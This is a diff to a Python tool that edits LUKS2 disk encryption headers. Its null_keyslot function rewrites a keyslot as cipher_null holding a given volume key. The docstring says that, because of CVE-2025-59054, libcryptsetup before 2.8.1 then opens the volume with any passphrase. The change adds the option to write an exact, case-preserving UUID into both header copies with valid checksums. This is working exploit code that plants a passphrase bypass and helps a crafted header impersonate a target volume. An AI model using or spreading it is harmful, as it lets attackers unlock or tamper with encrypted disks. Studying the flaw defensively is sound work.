@@ -30,8 +30,9 @@ def read_metadata(f):
     return hdr_size, json.loads(area.split(b"\0", 1)[0])
 
 
-def write_metadata(f, metadata):
-    """Writes `metadata` into both header copies with valid checksums."""
+def write_metadata(f, metadata, uuid=None):
+    """Writes `metadata` (and `uuid`, byte for byte, when given) into both
+    header copies with valid checksums."""
     f.seek(0)
     hdr_size = struct.unpack(">Q", f.read(4096)[8:16])[0]
     text = json.dumps(metadata, separators=(",", ":")).encode()
@@ -41,15 +42,18 @@ def write_metadata(f, metadata):
         binary = bytearray(f.read(4096))
         binary[448:448 + 64] = bytes(64)
         binary[16:24] = struct.pack(">Q", struct.unpack(">Q", binary[16:24])[0] + 1)  # seqid
+        if uuid is not None:
+            binary[168:208] = uuid.encode().ljust(40, b"\0")
         checksum = hashlib.sha256(bytes(binary) + area).digest()
         binary[448:448 + 32] = checksum
         f.seek(offset)
         f.write(bytes(binary) + area)
 
 
-def null_keyslot(path, volume_key, slot="0"):
+def null_keyslot(path, volume_key, slot="0", uuid=None):
     """Rewrites keyslot `slot` as cipher_null holding `volume_key`: libcryptsetup
-    before 2.8.1 opens it with any passphrase (CVE-2025-59054)."""
+    before 2.8.1 opens it with any passphrase (CVE-2025-59054). With `uuid`,
+    also writes that UUID exactly (cryptsetup --uuid lowercases it)."""
     with open(path, "r+b") as f:
         _, metadata = read_metadata(f)
         keyslot = metadata["keyslots"][slot]
@@ -58,4 +62,4 @@ def null_keyslot(path, volume_key, slot="0"):
         keyslot["area"]["encryption"] = "cipher_null-ecb"
         f.seek(int(keyslot["area"]["offset"]))
         f.write(material)
-        write_metadata(f, metadata)
+        write_metadata(f, metadata, uuid)
